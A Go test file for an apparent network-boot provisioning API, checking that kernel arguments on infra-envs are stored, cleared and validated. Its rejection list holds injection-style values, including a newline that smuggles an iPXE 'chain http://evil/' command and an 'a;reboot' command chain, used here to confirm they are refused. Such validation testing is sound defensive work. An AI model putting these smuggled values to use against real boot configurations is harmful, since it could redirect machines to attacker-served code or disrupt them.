package api

import (
	"testing"

	"github.com/rackboot/rackboot/engine"
	"github.com/rackboot/rackboot/engine/models"
)

// kernel_arguments are kept (not dropped) on create and update, shown as
// upstream shows them, cleared by an empty list; an operation or value
// that is not one plain argument is refused and changes nothing.
func TestInfraEnvKernelArgumentsKeptClearedRefused(t *testing.T) {
	e := newMemEnv(t)
	var ie models.InfraEnv
	e.must(adminCred(), 201, "POST", "/infra-envs", map[string]any{"name": "ka", "pull_secret": testPullSecret,
		"kernel_arguments": []map[string]string{{"operation": "append", "value": "rd.net.timeout.carrier=60"},
			{"operation": "delete", "value": "quiet"}}}).decode(t, &ie)
	if want := `[{"operation":"append","value":"rd.net.timeout.carrier=60"},{"operation":"delete","value":"quiet"}]`; ie.KernelArguments != want {
		t.Errorf("kernel_arguments = %s, want %s", ie.KernelArguments, want)
	}
	e.store.Read(func(m *engine.Model) {
		got, _ := m.InfraEnv(ie.ID)
		if len(got.KernelArguments) != 2 || got.KernelArguments[0].Value != "rd.net.timeout.carrier=60" {
			t.Errorf("stored kernel arguments %+v", got.KernelArguments)
		}
	})
	for _, bad := range []map[string]string{
		{"operation": "append", "value": "a b"}, {"operation": "append", "value": "a\nchain http://evil/"},
		{"operation": "append", "value": "${net0/mac}"}, {"operation": "append", "value": `p="x y"`},
		{"operation": "append", "value": "a;reboot"}, {"operation": "append", "value": ""},
		{"operation": "prepend", "value": "x"},
	} {
		e.wantError(e.do(adminCred(), "PATCH", "/infra-envs/"+ie.ID, map[string]any{
			"kernel_arguments": []map[string]string{bad}}), 400, "kernel_arguments[0]")
		e.wantError(e.do(adminCred(), "POST", "/infra-envs", map[string]any{"name": "bad", "pull_secret": testPullSecret,
			"kernel_arguments": []map[string]string{bad}}), 400, "kernel_arguments[0]")
	}
	var got models.InfraEnv
	e.must(adminCred(), 200, "GET", "/infra-envs/"+ie.ID, nil).decode(t, &got)
	if got.KernelArguments != ie.KernelArguments {
		t.Errorf("a refused update changed kernel_arguments to %s", got.KernelArguments)
	}
	got = models.InfraEnv{}
	e.must(adminCred(), 201, "PATCH", "/infra-envs/"+ie.ID, map[string]any{"kernel_arguments": []any{}}).decode(t, &got)
	if got.KernelArguments != "" {
		t.Errorf("cleared kernel_arguments = %s", got.KernelArguments)
	}
	var list []models.InfraEnv
	e.must(adminCred(), 200, "GET", "/infra-envs", nil).decode(t, &list)
	if len(list) != 1 {
		t.Errorf("%d infra-envs, want 1 (refused creations store nothing)", len(list))
	}
}
